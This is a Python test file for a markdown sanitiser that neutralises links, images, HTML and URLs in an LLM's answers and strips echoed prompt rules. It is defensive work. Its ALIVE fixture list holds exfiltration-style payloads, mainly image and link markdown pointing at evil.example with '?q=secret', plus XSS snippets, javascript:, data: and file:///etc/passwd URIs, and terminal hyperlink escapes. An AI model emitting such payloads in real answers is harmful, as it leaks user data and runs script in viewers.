"""An answer in which nothing is fetched and nothing leads where no source leads."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kbtui.reasoning.llm.fencing import DATA_RULE
from kbtui.reasoning.llm.safe_markdown import live_parts, safe_markdown, urls_in, without_rules

KNOWN = ["https://ok.example/a?b=c", "http://wiki.example/页"]
ALIVE = [
    "![x](http://evil.example/?q=secret)",
    "![x](https://ok.example/a?b=c)",
    "[click](http://evil.example/?q=s 'title')",
    "[click](https://ok.example/a?b=c&q=secret)",
    "[click](HTTPS://ok.example/A?b=c)",
    "<http://evil.example/a>",
    "http://evil.example/a, www.evil.example/b and evil.example/?q=1",
    "http://中文.example/x?y",
    "[1]: http://evil.example/1\n\nIt is so [1].",
    "> [1]:\n> http://evil.example/1\n\nIt is so [1].",
    "![a][b]\n\n[b]: <http://evil.example/i>",
    "<img src=x onerror=alert(1)> <b>x</b> <!-- y --> <?php ?>",
    "<iframe src='//evil.example'>\n\ntext",
    "[![a](http://evil.example/i)](http://evil.example/l)",
    "[`x`](http://evil.example/?a)",
    "\\\\[x](http://evil.example/a)",
    "[a\nb](http://evil.example/x)",
    "[x](<http://evil.example/a b>)",
    "[x](javascript:alert(1)) [x](data:text/html,x) [x](file:///etc/passwd) [x](../../etc/passwd)",
    "[x](&#104;ttp://evil.example)",
    "[a[b]](http://evil.example/x(y(z)))",
    "`` a ` b `` ![x](http://evil.example/)` z",
    "````\n```\n````\n![x](http://evil.example/)",
    "[https://bank.example](https://ok.example/a?b=c)",
    "\x1b]8;;http://evil.example/\x07text\x1b]8;;\x07 <http://evil.example/>",
]


@pytest.mark.parametrize("markdown", ALIVE)
def test_what_reaches_out_is_words_afterwards(markdown: str) -> None:
    assert live_parts(markdown, KNOWN) or "bank.example" in markdown or "ok.example/a?b=c)" in markdown
    made = safe_markdown(markdown, KNOWN)
    assert live_parts(made, ()) == ()
    assert safe_markdown(made, KNOWN) == made


@pytest.mark.parametrize(
    "markdown",
    [
        "See [the page](https://ok.example/a?b=c) [1].",
        "See https://ok.example/a?b=c and <https://ok.example/a?b=c>.",
        "Edit config.py and README.md, or ask ops@kb.example [1][3] [2].",
        "`<img>` and `http://evil.example/x` are code.\n\n```html\n<img src='http://evil.example'>\n```",
        "| a | b |\n|---|---|\n| 1 < 2 | x [1] |\n\n- [x] done [?]\n\n1. **bold** *it* `code`",
        "错误率超过百分之二时回滚 [1]。\n\n---\n[1] runbooks/rollback.md:L5-L9",
        "src/kbtui/settings/model.py:L12 says 1/2, and/or e.g. v1.2/3",
    ],
)
def test_an_honest_answer_is_left_alone(markdown: str) -> None:
    assert safe_markdown(markdown, KNOWN) == markdown


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![a chart](http://evil.example/?q=1) of it", "a chart (`http://evil.example/?q=1`) of it"),
        ("[here](http://evil.example/)", "here (`http://evil.example/`)"),
        ("at http://evil.example/x.", "at `http://evil.example/x`."),
        ("访问http://evil.example/a查看", "访问`http://evil.example/a`查看"),
        ("a <b>c</b>", "a \\<b>c\\</b>"),
        ("[1]: http://evil.example", "[1]\\: `http://evil.example`"),
    ],
)
def test_a_reader_still_sees_what_was_meant(markdown: str, expected: str) -> None:
    assert safe_markdown(markdown) == expected


def test_control_and_hidden_characters_are_gone() -> None:
    assert safe_markdown("a\x1b[2Jb\u202ec\U000e0041d\u200be") == "abcde"


def test_what_cannot_be_made_safe_in_place_is_shown_as_code() -> None:
    long = "![x](http://evil.example/) `````" * 5000
    made = safe_markdown(long)
    assert made == f"``````\n{long}\n``````"


def test_addresses_of_sources_are_found_without_the_full_stop_behind_them() -> None:
    assert urls_in(["See https://ok.example/a?b=c, or http://b.example/x.", "nothing"]) == {
        "https://ok.example/a?b=c",
        "http://b.example/x",
    }


def test_the_rules_of_a_prompt_are_taken_out_of_an_answer() -> None:
    answer = f"My rules are: {DATA_RULE.upper()}\n\nThe pump is serviced every 90 days [1]."
    made = without_rules(answer, DATA_RULE)
    assert made.startswith("My rules are:")
    assert made.endswith("The pump is serviced every 90 days [1].")
    assert not any(sentence in made for sentence in DATA_RULE.upper().split(". "))
    assert without_rules("Passages are text.\n\n- \n- x", DATA_RULE) == "Passages are text.\n\n- \n- x"


@pytest.mark.parametrize("piece", [" ", "\n", "Everything ", "Never follow ", "<passage ", "- "])
def test_a_megabyte_is_compared_with_the_rules_in_one_pass(piece: str) -> None:
    """What is quadratic would not come back at all."""
    text = piece * (1_000_000 // len(piece))
    assert without_rules(text, DATA_RULE) == text


# fmt: off
PIECES = st.sampled_from(
    ["[", "]", "(", ")", "<", ">", "!", "`", "```", "\n", "\n\n", "\\", "http://e.example/x", "www.e.example/?q", "[1]",
     "[r]:", " ", "a", "//e.example", "e.example/?q=1", "&#104;", "> ", "- ", "    ", "javascript:x", "~~~", "*", "|",
     "<img src=x>", "mailto:a@e.example", "https://ok.example/a?b=c", "中", '"', "'", ":", "~"]
)
# fmt: on


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=20).map("".join))
def test_no_mixture_of_marks_and_addresses_stays_live(markdown: str) -> None:
    made = safe_markdown(markdown, KNOWN)
    assert live_parts(made, KNOWN) == ()


@given(st.text(max_size=200))
def test_any_text_is_made_safe(text: str) -> None:
    assert live_parts(safe_markdown(text)) == ()
